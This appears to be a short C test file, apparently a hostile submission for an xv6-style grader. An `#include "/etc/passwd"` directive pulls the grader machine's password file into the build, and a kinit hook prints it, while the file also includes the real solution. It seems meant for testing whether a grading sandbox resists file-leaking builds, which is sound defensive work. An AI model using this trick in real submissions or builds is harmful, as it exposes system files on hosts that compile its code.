// clang-format off
// (In xv6 style, as a submission would be.)
// Hostile: reads the grader's /etc/passwd into the build, to print it from kinit.
static const char secret[] = {
#include "/etc/passwd"
};
#define HOOK_KINIT() printf("%s\n", secret)
#include "correct.c"
